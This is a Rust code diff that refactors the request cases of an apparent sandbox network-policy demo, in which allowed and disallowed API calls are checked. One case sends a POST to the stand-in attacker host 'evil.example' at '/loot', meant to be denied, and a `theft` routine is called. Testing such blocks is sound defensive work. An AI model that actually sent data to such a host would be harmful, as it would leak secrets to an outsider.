@@ -32,16 +32,17 @@ fn main() -> ExitCode {
         } },
     });
     show.opening(&lab, &policy);
-    request(&lab, &policy, &show, "an allowed request", HOST, "POST", "/v1/chat/completions");
-    request(&lab, &policy, &show, "a method that no rule allows", HOST, "DELETE", "/v1/models/gpt-4");
-    request(&lab, &policy, &show, "a path that no rule allows", HOST, "GET", "/v1/files");
-    request(&lab, &policy, &show, "a host that the network policy denies", "evil.example", "POST", "/loot");
+    request(&lab, &policy, &show, "an allowed request", ("POST", HOST, "/v1/chat/completions"));
+    request(&lab, &policy, &show, "a method that no rule allows", ("DELETE", HOST, "/v1/models/gpt-4"));
+    request(&lab, &policy, &show, "a path that no rule allows", ("GET", HOST, "/v1/files"));
+    request(&lab, &policy, &show, "a host that the network policy denies", ("POST", "evil.example", "/loot"));
     theft(&lab, &policy, &show);
     show.verdict(&lab.judge())
 }
 
 /// One request from inside, by the lab's client, with the placeholder as its key.
-fn request(lab: &Lab, policy: &Value, show: &Show, title: &str, host: &str, method: &str, path: &str) {
+fn request(lab: &Lab, policy: &Value, show: &Show, title: &str, asked: (&str, &str, &str)) {
+    let (method, host, path) = asked;
     let before = lab.seen().len();
     let sandbox = lab.sandbox(policy).quiet_log().at_origin(HOST).at_forbidden("evil.example");
     // The client puts the value of the variable where the plan says so: only the sandbox knows the placeholder.
